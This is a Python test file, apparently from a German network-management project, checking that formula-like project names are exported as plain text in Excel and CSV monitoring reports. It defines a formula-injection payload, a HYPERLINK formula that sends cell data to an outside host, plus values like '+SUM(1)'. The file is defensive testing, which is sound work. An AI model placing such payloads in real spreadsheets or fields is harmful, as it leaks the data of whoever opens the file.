"""Finding 6 of the security review: a name that looks like a formula never reaches an export as one — in the
monitoring's Excel file (table, notes, breakdowns) and CSV, as in every other export (one helper)."""

import csv
import io
from datetime import date

from openpyxl import load_workbook

from netzlotse.monitoring.exports import file_for
from netzlotse.monitoring.report import Scope, build
from netzlotse.network.models import Programme, Project

FORMULA = '=HYPERLINK("https://example.org/?d="&A1,"Klick")'


def _cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows(values_only=True):
            yield from (value for value in row if isinstance(value, str))


def test_a_project_named_like_a_formula_is_text_in_the_monitoring_exports(world):
    programme = Programme.objects.create(name=FORMULA, short_name="+SUM(1)")
    project = Project.objects.create(name=FORMULA, code="@X", lead=world.provider_a, programme=programme)
    report = build(scope=Scope(programme=programme, project=project), dates=[date(2026, 1, 1)], breakdowns=["projekt"])
    workbook, _name = file_for(report, "xlsx")
    texts = list(_cells(workbook))
    assert any(FORMULA in text for text in texts)  # the name is there …
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@"))]  # … never as a formula
    rows = list(csv.reader(io.StringIO(file_for(report, "csv")[0].decode("utf-8-sig")), delimiter=";"))
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
